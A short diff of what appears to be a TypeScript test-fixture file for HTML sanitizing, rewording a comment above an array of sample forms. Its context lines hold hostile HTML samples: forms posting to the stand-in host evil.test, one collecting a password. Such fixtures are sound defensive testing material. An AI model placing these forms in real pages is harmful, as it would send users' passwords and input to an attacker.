@@ -1,4 +1,4 @@
-/** Forms, which send what a reader writes, and controls, which take the focus. */
+/** Forms, which send what a reader enters, and controls, which take the focus. */
 export const forms: readonly string[] = [
   '<form action="https://evil.test/"><input name="password"><button>Send</button></form>',
   '<form action="https://evil.test/" method="post"><input type="submit"></form>',
